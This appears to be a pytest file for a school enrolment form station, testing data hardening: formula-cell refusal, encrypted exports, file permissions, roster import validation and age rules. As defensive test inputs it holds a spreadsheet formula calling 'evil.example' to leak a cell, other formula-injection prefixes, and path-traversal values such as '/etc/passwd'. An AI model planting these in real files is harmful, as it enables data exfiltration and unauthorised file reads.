"""Hardening of the roster and of personal data (issue 18): formula cells, encrypted bundles that
name nobody, owner-only files, no readings in plain files, no partial exports left behind."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

from sqlalchemy import select

from formstation import demo
from formstation.roster import import_roster
from formstation.store import forms, persons
from output.export import export

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def _roster(path: Path, edit) -> Path:
    rows = demo.roster_rows(seed=5, per_class=3)
    edit(rows)
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(demo.HEADER[:7])
        w.writerows(r[:7] for r in rows)
    return path


def test_formula_cells_refused_at_import(tmp_path, workspace):
    from formstation.store import Store

    def edit(rows):
        rows[0][2], rows[1][0], rows[2][6], rows[3][5] = FORMULA, "+SUM(1,2)", "@cmd", "-1+1"

    rep = import_roster(Store.open(workspace), _roster(tmp_path / "r.csv", edit))
    assert sorted(p.row for p in rep.problems) == [2, 3, 4, 5]
    assert all("formula" in p.reason for p in rep.problems)
    assert rep.added == len(demo.roster_rows(seed=5, per_class=3)) - 4


def test_every_csv_the_export_writes_neutralises_formulas(printed, tmp_path):
    """Cells that reached the store before the import refused them are exported as text."""
    store, _layout, _pdfs = printed
    with store.tx() as conn:
        rows = list(conn.execute(select(forms.c.form_id, forms.c.person_id).order_by(forms.c.form_id)))
        for (fid, pid), status in zip(rows[:3], ("accepted", "review", "printed"), strict=True):
            conn.execute(persons.update().where(persons.c.person_id == pid).values(name=FORMULA, bank="@SUM(1)"))
            conn.execute(forms.update().where(forms.c.form_id == fid).values(status=status))
    out = tmp_path / "export"
    export(store, out)
    seen = 0
    for name in ("card_data.csv", "pending.csv", "not_returned.csv"):
        for row in _csv(out / name)[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), (name, cell)
            seen += ("'" + FORMULA) in row
    assert seen == 3  # the text is kept, visibly, as text


def test_encrypted_bundle_names_nobody_without_the_passphrase(printed, tmp_path):
    """Zip entry names are not encrypted: the bytes of the zip must not hold any child's ID or name."""
    import zipfile

    import pyzipper

    store, _layout, _pdfs = printed
    with store.tx() as conn:
        people = list(conn.execute(select(persons.c.id_number, persons.c.name)))
        conn.execute(forms.update().values(status="accepted"))
    out = tmp_path / "enc"
    export(store, out, passphrase=b"correct horse battery staple")
    zips = sorted(out.glob("*.zip"))
    assert zips
    for z in zips:
        data = z.read_bytes()
        for id_number, name in people:
            assert id_number.encode() not in data and name.encode() not in data
        with zipfile.ZipFile(z) as zf:
            assert zf.namelist() == ["export.zip"]
        with pyzipper.AESZipFile(z) as zf:
            zf.setpassword(b"correct horse battery staple")
            with zipfile.ZipFile(io.BytesIO(zf.read("export.zip"))) as inner:
                names = inner.namelist()
    assert "card_data.csv" in names and "manifest.json" in names


def test_short_passphrase_refused(printed, tmp_path, capsys):
    import pytest

    from formstation.cli import main
    from formstation.errors import ExitCode, StationError

    store, _layout, _pdfs = printed
    pw = tmp_path / "pw.txt"
    pw.write_text("eleven-char\n", encoding="utf-8")
    assert main(["export", "--out", str(tmp_path / "e"), "--encrypt-to", str(pw)]) == ExitCode.INPUT
    assert "at least 12" in capsys.readouterr().err and not (tmp_path / "e").exists()
    with pytest.raises(StationError):  # the review station's downloads pass the passphrase itself
        export(store, tmp_path / "e", passphrase=b"short")


def _open_modes(root: Path) -> list[str]:
    """Files and folders under root that group or others may read, write or enter."""
    return [f"{p.relative_to(root)} {oct(p.stat().st_mode & 0o777)}" for p in [root, *root.rglob("*")]
            if p.stat().st_mode & 0o077]


def test_personal_data_at_rest_is_owner_only_and_readings_stay_in_the_store(tmp_path, monkeypatch):
    """Roster, print, a scan whose barcode and printed ID are gone (read, waits unidentified),
    export: with a permissive umask, nothing is readable by others, no readings file is written,
    and a reviewer's match still gives the form the page's readings."""
    import cv2
    import numpy as np
    import pypdfium2 as pdfium

    from forms.layout import load_layout
    from formstation.cli import main
    from ocr import pipeline
    from ocr.align import ALIGN_DPI
    from review_ui import matching

    monkeypatch.delenv("DATABASE_URL", raising=False)
    old = os.umask(0o022)
    try:
        ws = tmp_path / "ws"
        roster = demo.write_roster(tmp_path / "roster.csv", seed=3, per_class=1, classes=demo.DEMO_CLASSES[2:3])
        w = ["--workspace", str(ws)]
        assert main([*w, "roster", "import", str(roster)]) == 0
        assert main([*w, "print", "--out", str(ws / "print")]) == 0
        (pdf,) = (ws / "print").rglob("*.pdf")
        doc = pdfium.PdfDocument(str(pdf))
        page = np.array(doc[0].render(scale=ALIGN_DPI / 72, grayscale=True).to_pil())
        doc.close()
        layout = load_layout()
        for box in (layout.barcode_box, layout.zone("id_number").box):
            x0, y0, x1, y1 = box.to_px(ALIGN_DPI)
            page[y0 - 6:y1 + 6, x0 - 6:x1 + 6] = 255
        cv2.imwrite(str(tmp_path / "torn.png"), page)
        assert main([*w, "ingest", "--quiet", "--workers", "1", str(tmp_path / "torn.png")]) == 0
        assert main([*w, "export", "--out", str(ws / "export")]) == 0
    finally:
        os.umask(old)
    assert not _open_modes(ws), _open_modes(ws)[:5]
    assert not list(ws.rglob("*.readings.json"))
    from formstation.store import Store, pages

    store = Store.open(ws)
    with store.tx() as conn:
        (p,) = conn.execute(select(pages).where(pages.c.kind == "unidentified")).all()
        fid = conn.execute(select(forms.c.form_id)).scalar()
        assert p.readings and len(pipeline.load_readings(p.readings)) > 5
        matching.match_page(conn, p.page_id, fid, "rita")
    assert pipeline.reread_form(store, fid)[1] > 5  # the readings join the form


def test_export_killed_midway_leaves_no_plain_data_after_the_next_run(printed, tmp_path):
    import subprocess
    import sys

    from output.export import staging

    store, _layout, _pdfs = printed
    out = tmp_path / "exp"
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    left = tmp_path / f".exp.part-{dead.stdout.strip()}-x1y2"  # as `kill -9` during an export leaves it
    (left / "photos").mkdir(parents=True)
    (left / "card_data.csv").write_text("表单编号,姓名\n", encoding="utf-8")
    legacy = tmp_path / ".exp.part-k3j9q"  # the name an earlier version gave its temporary folder
    legacy.mkdir()
    with staging(out) as busy:  # another export to the same folder, still running (this process)
        export(store, out)
        assert busy.exists()
    assert not left.exists() and not legacy.exists()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_readings_files_of_an_older_store_move_into_the_store(workspace):
    from sqlalchemy import text

    from formstation.store import Store, meta, now, pages

    store = Store.open(workspace)
    with store.tx() as conn:  # the store as version 3 left it
        conn.execute(text("ALTER TABLE pages DROP COLUMN readings"))
        conn.execute(meta.update().where(meta.c.key == "schema_version").values(value="3"))
        conn.execute(text("INSERT INTO pages (file_sha256, page_index, kind, image_path, created_at) "
                          "VALUES ('ab', 0, 'unidentified', 'pages/ab/p0000.jpg', :t)"), {"t": now()})
    store.engine.dispose()
    legacy = workspace / "pages" / "ab" / "p0000.readings.json"
    legacy.parent.mkdir(parents=True)
    legacy.write_text('[{"name": "phone", "value": "13800138000", "confidence": 0.9, "box": [0, 0, 1, 1]}]')
    store = Store.open(workspace)
    with store.tx() as conn:
        assert "13800138000" in conn.execute(select(pages.c.readings)).scalar()
    assert not legacy.exists()
    store.engine.dispose()


# ------------------------------------------------------------------ roster import

def test_a_known_header_twice_is_refused_and_changes_nothing(tmp_path, workspace):
    import pytest

    from formstation.errors import StationError
    from formstation.store import Store

    rows = demo.roster_rows(seed=5, per_class=2)
    path = tmp_path / "r.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow([*demo.HEADER[:7], "姓名"])  # a second 姓名 column (e.g. the parent's name)
        w.writerows([*r[:7], "家长"] for r in rows)
    store = Store.open(workspace)
    with pytest.raises(StationError, match="姓名 appear more than once"):
        import_roster(store, path)
    with store.tx() as conn:
        assert conn.execute(select(persons.c.name)).first() is None


def test_full_width_id_is_the_same_person(tmp_path, workspace):
    from formstation.store import Store

    rows = demo.roster_rows(seed=5, per_class=3)  # what _roster writes
    full = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
    store = Store.open(workspace)
    import_roster(store, _roster(tmp_path / "a.csv", lambda r: None))

    def edit(r):
        r[0][4] = r[0][4].translate(full)  # the same child, typed with a Chinese input method

    rep = import_roster(store, _roster(tmp_path / "b.csv", edit))
    assert (rep.added, rep.problems) == (0, [])
    with store.tx() as conn:
        ids = list(conn.execute(select(persons.c.id_number)).scalars())
    assert len(ids) == len(rows) and all(i.isascii() for i in ids)


def test_roster_photo_only_an_image_under_the_roster_folder(tmp_path, workspace):
    import numpy as np
    from PIL import Image

    from formstation.store import Store

    folder = tmp_path / "roster"
    (folder / "photos").mkdir(parents=True)
    Image.fromarray(np.full((441, 358, 3), 230, np.uint8)).save(folder / "photos" / "ok.jpg")
    (folder / "photos" / "fake.jpg").write_text("not an image")
    (tmp_path / "outside.jpg").write_bytes((folder / "photos" / "ok.jpg").read_bytes())
    rows = [*demo.roster_rows(seed=5, per_class=1)]
    for r, p in zip(rows, ("photos/ok.jpg", "/etc/passwd", "../outside.jpg", "photos/fake.jpg"), strict=True):
        r[7] = p
    path = folder / "r.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(demo.HEADER)
        w.writerows(rows)
    rep = import_roster(Store.open(workspace), path)
    assert rep.added == 4
    why = {w.row: w.reason for w in rep.warnings}
    assert "outside the roster's folder" in why[3] and "outside the roster's folder" in why[4]
    assert "not a readable image" in why[5] and 2 not in why
    with Store.open(workspace).tx() as conn:
        photos = [p for p in conn.execute(select(persons.c.photo_path)).scalars() if p]
    assert photos == [str((folder / "photos" / "ok.jpg").resolve())]


# ------------------------------------------------------------------ the day ages are computed on

def test_ages_count_from_the_day_the_form_was_printed_unless_a_campaign_date_is_set(tmp_path, workspace):
    """A form printed today for a child who turned 16 ten days ago needs no guardian: it was
    rejected for missing guardian fields while the ages' day was a constant (2026-09-01)."""
    from datetime import date, timedelta

    from forms.layout import load_layout
    from formstation import idnumber
    from formstation.config import load_config
    from formstation.printjob import print_forms
    from formstation.store import Store, now, reasons, upsert_field
    from ocr.rules import decide_forms

    today = date.today()
    born = date(today.year - 16, today.month, min(today.day, 28)) - timedelta(days=10)
    child = idnumber.make("450481", born, 123)

    def edit(rows):
        del rows[1:]
        rows[0][4], rows[0][3] = child, "男"

    store = Store.open(workspace)
    import_roster(store, _roster(tmp_path / "r.csv", edit))

    def decided(campaign: date | None) -> tuple[str, set[str]]:
        print_forms(store, load_layout(), tmp_path / "print", campaign_date=campaign)
        with store.tx() as conn:
            fid = conn.execute(select(forms.c.form_id)).scalar()
            for name, value in {"corrected_name": "", "corrected_id": "", "phone": "13800138000",
                                "photo": "pasted", "photo_face": "yes", "photo_background": "light",
                                "photo_color": "color", "id_copy": "absent", "applicant_signature": "present",
                                "guardian_id": "", "guardian_phone": "", "guardian_relation": "",
                                "guardian_signature": "absent"}.items():
                upsert_field(conn, fid, name, {"value": value, "confidence": 0.99, "source": "read",
                                               "updated_at": now()})
            conn.execute(forms.update().values(status="received"))
        decide_forms(store, {fid})
        with store.tx() as conn:
            return (conn.execute(select(forms.c.status)).scalar(),
                    set(conn.execute(select(reasons.c.code)).scalars()))

    assert decided(None) == ("accepted", set())
    assert load_config(workspace).campaign_date is None
    day_before = born.replace(year=born.year + 16) - timedelta(days=1)  # a campaign set for the day before
    status, codes = decided(day_before)
    assert load_config(workspace).campaign_date == day_before
    assert status == "rejected" and "GUARDIAN_ID_MISSING" in codes
